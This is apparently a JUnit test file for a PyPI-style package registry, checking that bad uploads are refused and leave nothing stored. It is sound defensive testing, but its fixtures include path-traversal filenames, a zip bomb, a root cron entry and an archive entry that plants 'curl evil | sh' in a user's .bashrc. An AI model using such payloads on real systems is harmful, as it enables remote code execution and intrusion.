package dev.portcullis.registry.pypi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.identity.Permission;
import dev.portcullis.identity.Role;
import dev.portcullis.testing.Multipart;
import dev.portcullis.testing.Processes;
import dev.portcullis.testing.PythonClients;
import dev.portcullis.testing.RawHttp;
import dev.portcullis.testing.TestServer;
import dev.portcullis.testing.Uploads;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.function.Function;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Bad uploads. Each one is answered with PyPI's status and a reason phrase naming the problem,
 * is recorded as an event, stores nothing (no row, no blob, no temporary file), loses nothing
 * that was already published, and leaves the server serving. Runs on SQLite and PostgreSQL.
 */
class UploadRejectionTest {

    private static final String VICTIM = "victim";
    private static final long MAX_FILE_BYTES = 256 * 1024;

    @TempDir
    Path dir;

    /** A server with one published release, and an upload token for project "victim". */
    private record Fixture(TestServer server, String token, byte[] published) {}

    private Fixture start(String database) {
        TestServer server = TestServer.start(database, dir.resolve("data"), MAX_FILE_BYTES);
        String token = server.token("ci", Role.MAINTAINER, VICTIM, Permission.UPLOAD);
        byte[] wheel = Uploads.wheel(VICTIM, "1.0.0");
        RawHttp.Response ok = RawHttp.upload(
                server.url(),
                token,
                Uploads.wheelForm(VICTIM, "1.0.0", Uploads.wheelName(VICTIM, "1.0.0"), wheel)
                        .build());
        assertThat(ok.status()).as(ok.body()).isEqualTo(200);
        RawHttp.Response approved = server.approve(VICTIM, "1.0.0");
        assertThat(approved.status()).as(approved.body()).isEqualTo(200);
        return new Fixture(server, token, wheel);
    }

    /**
     * Sends {@code request}, then checks the answer and that nothing changed: the snapshot of stored
     * state is identical, one more refusal event exists, the published file still downloads intact.
     */
    private static void assertRefused(
            Fixture f, String eventKind, int status, String reason, Function<Fixture, RawHttp.Response> request) {
        TestServer server = f.server();
        TestServer.Snapshot before = server.snapshot();
        long eventsBefore = server.events(eventKind);

        RawHttp.Response response = request.apply(f);

        assertThat(response.status()).as(response.body()).isEqualTo(status);
        assertThat(response.reason()).contains(reason);
        assertThat(response.body()).contains(reason);
        assertThat(server.snapshot()).isEqualTo(before);
        assertThat(server.events(eventKind)).isEqualTo(eventsBefore + 1);
        RawHttp.Response download = RawHttp.send(
                server.url(), "GET", "/files/" + VICTIM + "/" + Uploads.wheelName(VICTIM, "1.0.0"), Map.of(), null);
        assertThat(download.status()).isEqualTo(200);
        assertThat(download.bytes()).isEqualTo(f.published());
    }

    /** The token with its last (checksum) character changed, whatever it was. */
    private static String corruptLastCharacter(String token) {
        char last = token.charAt(token.length() - 1);
        return token.substring(0, token.length() - 1) + (last == '0' ? '1' : '0');
    }

    private static RawHttp.Response uploadWheel(
            Fixture f, String token, String name, String version, String filename, byte[] content) {
        return RawHttp.upload(
                f.server().url(),
                token,
                Uploads.wheelForm(name, version, filename, content).build());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void refusesBadCredentials(String database) {
        Fixture f = start(database);
        try (TestServer server = f.server()) {
            byte[] wheel = Uploads.wheel(VICTIM, "2.0.0");
            String name = Uploads.wheelName(VICTIM, "2.0.0");
            assertRefused(
                    f,
                    "AuthenticationFailed",
                    403,
                    "Invalid or non-existent authentication information (unknown token)",
                    x -> uploadWheel(
                            x,
                            "pcl_u_" + "A".repeat(44) + checksumOf("pcl_u_" + "A".repeat(44)),
                            VICTIM,
                            "2.0.0",
                            name,
                            wheel));
            assertRefused(
                    f,
                    "AuthenticationFailed",
                    403,
                    "(malformed token)",
                    x -> uploadWheel(x, corruptLastCharacter(x.token()), VICTIM, "2.0.0", name, wheel));
            assertRefused(
                    f,
                    "UploadRejected",
                    403,
                    "Invalid or non-existent authentication information.",
                    x -> uploadWheel(x, null, VICTIM, "2.0.0", name, wheel));
            assertRefused(
                    f,
                    "UploadRejected",
                    403,
                    "Username/Password authentication is not supported",
                    x -> RawHttp.send(
                            x.server().url(),
                            "POST",
                            "/legacy/",
                            Map.of(
                                    "Content-Type",
                                    Multipart.contentType(),
                                    "Authorization",
                                    "Basic "
                                            + java.util.Base64.getEncoder()
                                                    .encodeToString("alice:secret".getBytes(StandardCharsets.UTF_8))),
                            Uploads.wheelForm(VICTIM, "2.0.0", name, wheel).build()));

            String otherProject = server.token("other", Role.MAINTAINER, "other-project", Permission.UPLOAD);
            assertRefused(
                    f,
                    "UploadRejected",
                    403,
                    "The given token isn't allowed to upload to project 'victim'.",
                    x -> uploadWheel(x, otherProject, VICTIM, "2.0.0", name, wheel));
            String readOnly = server.token("auditor", Role.AUDITOR, null, Permission.READ);
            assertRefused(
                    f,
                    "UploadRejected",
                    403,
                    "isn't allowed to upload",
                    x -> uploadWheel(x, readOnly, VICTIM, "2.0.0", name, wheel));
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void refusesFilesThatBreakTheRules(String database) {
        Fixture f = start(database);
        try (TestServer server = f.server()) {
            String name2 = Uploads.wheelName(VICTIM, "2.0.0");
            byte[] wheel2 = Uploads.wheel(VICTIM, "2.0.0");

            byte[] other = Uploads.wheel(VICTIM, "1.0.0");
            other = Arrays.copyOf(other, other.length + 1); // same name, other bytes
            byte[] otherBytes = other;
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "File already exists ('victim-1.0.0-py3-none-any.whl'",
                    x -> uploadWheel(x, x.token(), VICTIM, "1.0.0", Uploads.wheelName(VICTIM, "1.0.0"), otherBytes));

            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "The digest supplied does not match a digest calculated from the uploaded file.",
                    x -> RawHttp.upload(
                            x.server().url(),
                            x.token(),
                            new Multipart()
                                    .field(":action", "file_upload")
                                    .field("protocol_version", "1")
                                    .field("metadata_version", "2.1")
                                    .field("name", VICTIM)
                                    .field("version", "2.0.0")
                                    .field("filetype", "bdist_wheel")
                                    .field("pyversion", "py3")
                                    .field("sha256_digest", "0".repeat(64))
                                    .file("content", name2, wheel2)
                                    .build()));

            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Invalid distribution file. its metadata has version '3.0.0'",
                    x -> uploadWheel(
                            x, x.token(), VICTIM, "2.0.0", name2, Uploads.wheel(VICTIM, "2.0.0", VICTIM, "3.0.0")));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Invalid distribution file. its metadata names project 'intruder'",
                    x -> uploadWheel(
                            x, x.token(), VICTIM, "2.0.0", name2, Uploads.wheel(VICTIM, "2.0.0", "intruder", "2.0.0")));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "does not contain the required file victim-2.0.0.dist-info/METADATA",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, Uploads.wheel(VICTIM, "3.0.0")));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Start filename for 'victim' with 'victim'.",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", Uploads.wheelName("intruder", "2.0.0"), wheel2));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Version in filename should be '2.0.0' not '2.0.1'.",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", Uploads.wheelName(VICTIM, "2.0.1"), wheel2));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Invalid distribution file. the archive is malformed",
                    x -> uploadWheel(
                            x, x.token(), VICTIM, "2.0.0", name2, "not a zip".getBytes(StandardCharsets.UTF_8)));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "is an invalid value for Name",
                    x -> uploadWheel(x, x.token(), "-victim-", "2.0.0", name2, wheel2));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "is an invalid value for Version",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0+local", name2, wheel2));
            for (String hostile : new String[] {
                "../../victim-2.0.0-py3-none-any.whl",
                "a/victim-2.0.0-py3-none-any.whl",
                "..\\\\victim-2.0.0-py3-none-any.whl",
                "victim-2.0.0-py3-none-any.whl\u0000.txt",
                "/etc/victim-2.0.0-py3-none-any.whl"
            }) {
                assertRefused(
                        f,
                        "UploadRejected",
                        400,
                        "Invalid file name",
                        x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", hostile, wheel2));
            }
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Release 1.0.0 of 'victim' was already released",
                    x -> uploadWheel(
                            x,
                            x.token(),
                            VICTIM,
                            "1.0.0",
                            "victim-1.0.0-py3-none-manylinux1_x86_64.whl",
                            Uploads.wheel(VICTIM, "1.0.0")));
        }
    }

    /** Archives that would attack whoever unpacks them: refused at upload, as PyPI refuses malformed archives. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void refusesHostileArchives(String database) {
        Fixture f = start(database);
        try (TestServer server = f.server()) {
            String name2 = Uploads.wheelName(VICTIM, "2.0.0");
            byte[] traversal = Uploads.wheel(
                    VICTIM,
                    "2.0.0",
                    VICTIM,
                    "2.0.0",
                    Map.of(
                            "victim/../../../../home/user/.bashrc",
                            "curl evil | sh\n".getBytes(StandardCharsets.UTF_8)));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Invalid distribution file. an entry's path climbs out of the archive with '..' (path traversal) [victim/../../../../home/user/.bashrc]",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, traversal));

            byte[] bomb =
                    Uploads.wheel(VICTIM, "2.0.0", VICTIM, "2.0.0", Map.of("victim/zeros.bin", new byte[8 << 20]));
            assertThat((long) bomb.length).isLessThan(MAX_FILE_BYTES);
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Invalid distribution file. an entry inflates more than 200 times its compressed size (zip bomb)",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, bomb));

            byte[] absolute = Uploads.wheel(
                    VICTIM,
                    "2.0.0",
                    VICTIM,
                    "2.0.0",
                    Map.of("/etc/cron.d/job", "* * * * * root id\n".getBytes(StandardCharsets.UTF_8)));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "an entry has an absolute path",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, absolute));
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void refusesMalformedAndOversizedRequests(String database) {
        Fixture f = start(database);
        try (TestServer server = f.server()) {
            String name2 = Uploads.wheelName(VICTIM, "2.0.0");
            byte[] wheel2 = Uploads.wheel(VICTIM, "2.0.0");
            byte[] complete = Uploads.wheelForm(VICTIM, "2.0.0", name2, wheel2).build();

            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "malformed multipart body",
                    x -> RawHttp.upload(x.server().url(), x.token(), Arrays.copyOf(complete, complete.length - 40)));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "must be multipart/form-data",
                    x -> RawHttp.send(
                            x.server().url(),
                            "POST",
                            "/legacy/",
                            Map.of("Authorization", RawHttp.basic(x.token()), "Content-Type", "application/json"),
                            "{}".getBytes(StandardCharsets.UTF_8)));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Upload payload does not have a file.",
                    x -> RawHttp.upload(
                            x.server().url(),
                            x.token(),
                            new Multipart()
                                    .field(":action", "file_upload")
                                    .field("protocol_version", "1")
                                    .field("metadata_version", "2.1")
                                    .field("name", VICTIM)
                                    .field("version", "2.0.0")
                                    .field("filetype", "bdist_wheel")
                                    .field("pyversion", "py3")
                                    .field("sha256_digest", "0".repeat(64))
                                    .build()));
            String longBoundary = "b".repeat(71);
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "the multipart boundary is longer than 70 characters",
                    x -> RawHttp.send(
                            x.server().url(),
                            "POST",
                            "/legacy/",
                            Map.of(
                                    "Authorization",
                                    RawHttp.basic(x.token()),
                                    "Content-Type",
                                    "multipart/form-data; boundary=" + longBoundary),
                            ("--" + longBoundary
                                            + "\r\nContent-Disposition: form-data; name=\":action\"\r\n\r\nfile_upload\r\n--"
                                            + longBoundary + "--\r\n")
                                    .getBytes(StandardCharsets.UTF_8)));
            assertRefused(
                    f,
                    "UploadRejected",
                    410,
                    "Uploading documentation is no longer supported.",
                    x -> RawHttp.upload(
                            x.server().url(),
                            x.token(),
                            new Multipart()
                                    .field(":action", "doc_upload")
                                    .field("protocol_version", "1")
                                    .file("content", name2, wheel2)
                                    .build()));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Unknown protocol version.",
                    x -> RawHttp.upload(
                            x.server().url(),
                            x.token(),
                            new Multipart()
                                    .field(":action", "file_upload")
                                    .field("protocol_version", "2")
                                    .file("content", name2, wheel2)
                                    .build()));
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "Form field 'description' is too large.",
                    x -> RawHttp.upload(
                            x.server().url(),
                            x.token(),
                            new Multipart()
                                    .field(":action", "file_upload")
                                    .field("description", "x".repeat(1024 * 1024 + 1))
                                    .file("content", name2, wheel2)
                                    .build()));

            byte[] huge = new byte[(int) MAX_FILE_BYTES + 1];
            assertRefused(
                    f,
                    "UploadRejected",
                    400,
                    "File too large. Limit for this server is 0 MB.",
                    x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, huge));
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void twineShowsTheReasonAndSkipExistingTreatsConflictsAsSkipped(String database) throws Exception {
        Path dist = PythonClients.buildSample("victim", "1.0.0");
        try (TestServer server = TestServer.start(database, dir.resolve("data"))) {
            String token = server.token("ci", Role.MAINTAINER, VICTIM, Permission.UPLOAD);
            Processes.Result wrongToken =
                    PythonClients.twineUpload(server.url(), "pcl_u_nonsense", PythonClients.wheel(dist));
            assertThat(wrongToken.exitCode()).isNotZero();
            assertThat(wrongToken.output())
                    .contains("403")
                    .contains("Invalid or non-existent authentication information (malformed token)");

            assertThat(PythonClients.twineUpload(server.url(), token, PythonClients.wheel(dist))
                            .exitCode())
                    .isZero();
            Path altered = dir.resolve(PythonClients.wheel(dist).getFileName());
            byte[] bytes = Files.readAllBytes(PythonClients.wheel(dist));
            Files.write(altered, Arrays.copyOf(bytes, bytes.length + 1));
            Processes.Result conflict = PythonClients.twineUpload(server.url(), token, altered);
            assertThat(conflict.exitCode()).isNotZero();
            assertThat(conflict.output()).contains("400").contains("File already exists");

            Processes.Result skipped = Processes.run(
                    dir,
                    Map.of("TWINE_NON_INTERACTIVE", "1", "PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring"),
                    java.time.Duration.ofMinutes(2),
                    java.util.List.of(
                            "/usr/bin/twine",
                            "upload",
                            "--disable-progress-bar",
                            "--skip-existing",
                            "--repository-url",
                            server.url() + "/legacy/",
                            "-u",
                            "__token__",
                            "-p",
                            token,
                            altered.toString()));
            assertThat(skipped.exitCode()).as(skipped.output()).isZero();
            assertThat(skipped.output()).contains("Skipping");
        }
    }

    private static String checksumOf(String prefixAndBody) {
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(prefixAndBody.getBytes(StandardCharsets.US_ASCII));
        long value = crc.getValue();
        String alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        char[] out = new char[6];
        for (int i = 5; i >= 0; i--) {
            out[i] = alphabet.charAt((int) (value % 62));
            value /= 62;
        }
        return new String(out);
    }
}
